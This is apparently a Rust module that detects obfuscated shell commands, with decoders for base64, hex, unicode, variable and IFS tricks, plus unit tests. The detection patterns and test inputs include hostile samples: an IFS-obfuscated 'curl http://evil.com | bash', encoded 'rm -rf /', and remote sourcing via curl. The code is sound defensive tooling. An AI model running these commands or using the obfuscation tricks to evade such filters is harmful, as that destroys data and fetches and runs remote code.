//! Individual obfuscation technique detectors
//!
//! Each detector looks at the raw command text and, when it recognises its
//! technique, returns a best-effort plaintext candidate with a confidence.

use base64::Engine;
use regex::{Captures, Regex};
use std::collections::HashMap;
use std::sync::LazyLock;

use crate::risk::RiskLevel;

/// A technique hit
#[derive(Debug, Clone, PartialEq)]
pub struct Detection {
    pub candidate: String,
    pub confidence: f64,
    /// Overrides the technique's own level for this hit
    pub level: Option<RiskLevel>,
}

impl Detection {
    fn new(candidate: impl Into<String>, confidence: f64) -> Self {
        Self {
            candidate: candidate.into(),
            confidence,
            level: None,
        }
    }
}

pub struct Technique {
    pub name: &'static str,
    pub description: &'static str,
    pub level: RiskLevel,
    pub detect: fn(&str) -> Option<Detection>,
}

/// Registration order breaks confidence ties
pub static TECHNIQUES: &[Technique] = &[
    Technique {
        name: "Base64 Encoding",
        description: "Detects base64 encoded commands",
        level: RiskLevel::High,
        detect: detect_base64,
    },
    Technique {
        name: "Hex Encoding",
        description: "Detects hex encoded commands",
        level: RiskLevel::High,
        detect: detect_hex,
    },
    Technique {
        name: "Unicode Escapes",
        description: "Detects unicode escape sequences",
        level: RiskLevel::Medium,
        detect: detect_unicode_escapes,
    },
    Technique {
        name: "Variable Substitution",
        description: "Detects commands assembled from single-character variables",
        level: RiskLevel::Medium,
        detect: detect_variable_substitution,
    },
    Technique {
        name: "Character Substitution",
        description: "Detects character substitution like ${IFS}",
        level: RiskLevel::Medium,
        detect: detect_character_substitution,
    },
    Technique {
        name: "Command Substitution Abuse",
        description: "Detects heavily nested command substitution",
        level: RiskLevel::High,
        detect: detect_command_substitution,
    },
    Technique {
        name: "Eval Chains",
        description: "Detects eval and remote source execution",
        level: RiskLevel::Critical,
        detect: detect_eval_chains,
    },
];

static BASE64_PIPE_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"echo\s+["']?([A-Za-z0-9+/=]+)["']?\s*\|\s*base64\s+(?:-d|--decode)"#)
        .expect("invalid regex")
});
static BASE64_TO_SHELL_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"base64\s+(?:-d|--decode)\s*\|\s*(?:sudo\s+)?(?:bash|sh|zsh)\b").expect("invalid regex")
});
static BARE_BASE64_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{20,}={0,2}").expect("invalid regex"));
static ECHO_HEX_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"echo\s+-e\s+["']?((?:\\x[0-9a-fA-F]{2})+)["']?"#).expect("invalid regex")
});
static ANSI_HEX_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$'((?:\\x[0-9a-fA-F]{2})+)'").expect("invalid regex"));
static HEX_BYTE_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\\x([0-9a-fA-F]{2})").expect("invalid regex"));
static UNICODE_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\\u([0-9a-fA-F]{4})|\\U([0-9a-fA-F]{8})").expect("invalid regex")
});
static VAR_DECL_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r#"\b(\w+)=["']?(\w)["']?;\s*"#).expect("invalid regex"));
static VAR_USE_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\$(\w+)").expect("invalid regex"));
static EVAL_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\beval\s+").expect("invalid regex"));
static REMOTE_SOURCE_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"source\s+<\(curl\s+|wget\s+-O\s*-|source\s+.*http").expect("invalid regex")
});

static COMMAND_PREFIX_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"^(rm|ls|cat|echo|curl|wget|bash|sh|python|perl|nc|chmod|chown)")
        .expect("invalid regex")
});
static SPACED_OPERATOR_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\s(-rf|-la|-al|&&|\|\||;|>|<|\|)\s").expect("invalid regex")
});
static SCRIPT_EXT_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(\.sh|\.py|\.pl|\.rb)(\s|$)").expect("invalid regex"));

/// Literal replacements for well-known separator tricks
const CHARACTER_SUBSTITUTIONS: &[(&str, &str)] = &[
    ("${IFS}", " "),
    ("$IFS", " "),
    ("${PATH##*:}", ""),
    ("${##}", ""),
];

/// Whether decoded text plausibly is a shell command
pub fn looks_like_command(text: &str) -> bool {
    let text = text.trim();
    if text.len() < 2 {
        return false;
    }
    if COMMAND_PREFIX_RE.is_match(text)
        || SPACED_OPERATOR_RE.is_match(text)
        || SCRIPT_EXT_RE.is_match(text)
    {
        return true;
    }

    let total = text.chars().count();
    let printable = text.chars().filter(|c| !c.is_control()).count();
    printable as f64 / total as f64 > 0.8
}

fn decode_base64(encoded: &str) -> Option<String> {
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(encoded)
        .ok()?;
    String::from_utf8(bytes).ok()
}

fn detect_base64(command: &str) -> Option<Detection> {
    if let Some(caps) = BASE64_PIPE_RE.captures(command) {
        if let Some(decoded) = decode_base64(&caps[1]) {
            if looks_like_command(&decoded) {
                let mut detection = Detection::new(decoded, 0.9);
                // decoded straight into an interpreter
                if BASE64_TO_SHELL_RE.is_match(command) {
                    detection.level = Some(RiskLevel::Critical);
                }
                return Some(detection);
            }
        }
    }

    let hidden = BARE_BASE64_RE
        .find_iter(command)
        .filter_map(|m| decode_base64(m.as_str()))
        .any(|decoded| looks_like_command(&decoded));
    hidden.then(|| Detection::new(command, 0.7))
}

fn decode_hex_escapes(text: &str) -> String {
    let mut bytes = Vec::new();
    let mut last = 0;
    for caps in HEX_BYTE_RE.captures_iter(text) {
        let Some(whole) = caps.get(0) else { continue };
        bytes.extend_from_slice(text[last..whole.start()].as_bytes());
        match hex::decode(&caps[1]) {
            Ok(decoded) => bytes.extend(decoded),
            Err(_) => bytes.extend_from_slice(whole.as_str().as_bytes()),
        }
        last = whole.end();
    }
    bytes.extend_from_slice(text[last..].as_bytes());
    String::from_utf8_lossy(&bytes).into_owned()
}

fn detect_hex(command: &str) -> Option<Detection> {
    if let Some(caps) = ECHO_HEX_RE.captures(command) {
        let decoded = decode_hex_escapes(&caps[1]);
        if looks_like_command(&decoded) {
            return Some(Detection::new(decoded, 0.9));
        }
    }

    if ANSI_HEX_RE.is_match(command) {
        let decoded = ANSI_HEX_RE.replace_all(command, |caps: &Captures| decode_hex_escapes(&caps[1]));
        if looks_like_command(&decoded) {
            return Some(Detection::new(decoded, 0.8));
        }
    }

    None
}

fn detect_unicode_escapes(command: &str) -> Option<Detection> {
    if !UNICODE_RE.is_match(command) {
        return None;
    }
    let decoded = UNICODE_RE.replace_all(command, |caps: &Captures| {
        let digits = caps.get(1).or_else(|| caps.get(2)).map(|m| m.as_str());
        digits
            .and_then(|d| u32::from_str_radix(d, 16).ok())
            .and_then(char::from_u32)
            .map(String::from)
            .unwrap_or_else(|| caps[0].to_string())
    });
    Some(Detection::new(decoded, 0.7))
}

fn detect_variable_substitution(command: &str) -> Option<Detection> {
    let vars: HashMap<&str, &str> = VAR_DECL_RE
        .captures_iter(command)
        .filter_map(|caps| {
            let name = caps.get(1)?.as_str();
            let value = caps.get(2)?.as_str();
            Some((name, value))
        })
        .collect();
    if vars.is_empty() {
        return None;
    }

    let uses_declared = VAR_USE_RE
        .captures_iter(command)
        .any(|caps| vars.contains_key(&caps[1]));
    if !uses_declared {
        return None;
    }

    let substituted = VAR_USE_RE.replace_all(command, |caps: &Captures| {
        vars.get(&caps[1])
            .map(|v| v.to_string())
            .unwrap_or_else(|| caps[0].to_string())
    });
    let stripped = VAR_DECL_RE.replace_all(&substituted, |caps: &Captures| {
        if vars.contains_key(&caps[1]) {
            String::new()
        } else {
            caps[0].to_string()
        }
    });
    Some(Detection::new(stripped.trim(), 0.8))
}

fn detect_character_substitution(command: &str) -> Option<Detection> {
    let mut decoded = command.to_string();
    let mut found = false;
    for (pattern, replacement) in CHARACTER_SUBSTITUTIONS {
        if decoded.contains(pattern) {
            found = true;
            decoded = decoded.replace(pattern, replacement);
        }
    }
    found.then(|| Detection::new(decoded, 0.7))
}

fn detect_command_substitution(command: &str) -> Option<Detection> {
    let nesting = command.matches('`').count() + command.matches("$(").count();
    if nesting <= 2 {
        return None;
    }
    let confidence = (nesting as f64 / 10.0).min(1.0);
    Some(Detection::new(command, confidence))
}

fn detect_eval_chains(command: &str) -> Option<Detection> {
    if EVAL_RE.is_match(command) {
        return Some(Detection::new(command, 0.9));
    }
    if REMOTE_SOURCE_RE.is_match(command) {
        return Some(Detection::new(command, 0.95));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_base64_pipeline_decodes() {
        let hit = detect_base64("echo 'bHMgLWxhIC9ldGMvcGFzc3dk' | base64 -d").unwrap();
        assert_eq!(hit.candidate, "ls -la /etc/passwd");
        assert_eq!(hit.confidence, 0.9);
        assert_eq!(hit.level, None);
    }

    #[test]
    fn test_base64_into_shell_is_critical() {
        let hit = detect_base64("echo \"cm0gLXJmIC8=\" | base64 -d | bash").unwrap();
        assert_eq!(hit.candidate, "rm -rf /");
        assert_eq!(hit.level, Some(RiskLevel::Critical));
    }

    #[test]
    fn test_base64_ignores_plain_text() {
        assert!(detect_base64("echo \"Hello World\"").is_none());
        assert!(detect_base64("echo \"#FF0000\"").is_none());
    }

    #[test]
    fn test_hex_escapes() {
        let hit = detect_hex(r#"echo -e "\x72\x6d\x20\x2d\x72\x66""#).unwrap();
        assert_eq!(hit.candidate, "rm -rf");
        assert_eq!(hit.confidence, 0.9);

        let hit = detect_hex(r"$'\x72\x6d' -rf /tmp/x").unwrap();
        assert_eq!(hit.candidate, "rm -rf /tmp/x");
        assert_eq!(hit.confidence, 0.8);
    }

    #[test]
    fn test_unicode_escapes() {
        let hit = detect_unicode_escapes(r"echo \u0072\u006d \U0001F600").unwrap();
        assert_eq!(hit.candidate, "echo rm \u{1F600}");
        assert_eq!(hit.confidence, 0.7);
        assert!(detect_unicode_escapes("echo plain").is_none());
    }

    #[test]
    fn test_variable_substitution() {
        let hit = detect_variable_substitution(r#"a="r"; b="m"; $a$b -rf /"#).unwrap();
        assert_eq!(hit.candidate, "rm -rf /");
        assert!(detect_variable_substitution(r#"DIR="/tmp"; ls $DIR"#).is_none());
        // declarations that are never used are not obfuscation
        assert!(detect_variable_substitution("x=1; echo $HOME").is_none());
    }

    #[test]
    fn test_character_substitution() {
        let hit = detect_character_substitution("curl${IFS}http://evil.com${IFS}|${IFS}bash").unwrap();
        assert_eq!(hit.candidate, "curl http://evil.com | bash");
        let hit = detect_character_substitution("rm${IFS}-rf${IFS}/").unwrap();
        assert_eq!(hit.candidate, "rm -rf /");
    }

    #[test]
    fn test_command_substitution_confidence() {
        assert!(detect_command_substitution("echo $(a) $(b)").is_none());
        let hit = detect_command_substitution("$(a)$(b)$(c)$(d)$(e)").unwrap();
        assert_eq!(hit.confidence, 0.5);
        let hit = detect_command_substitution(&"$(x)".repeat(12)).unwrap();
        assert_eq!(hit.confidence, 1.0);
    }

    #[test]
    fn test_eval_chains() {
        assert_eq!(detect_eval_chains("eval $(echo ls)").unwrap().confidence, 0.9);
        assert_eq!(
            detect_eval_chains("source <(curl -s http://x.sh)").unwrap().confidence,
            0.95
        );
        assert!(detect_eval_chains("medieval history").is_none());
    }

    #[test]
    fn test_looks_like_command() {
        assert!(looks_like_command("rm -rf /"));
        assert!(looks_like_command("./install.sh"));
        assert!(!looks_like_command("x"));
        assert!(!looks_like_command("\u{1}\u{2}\u{3}\u{4}a"));
    }
}
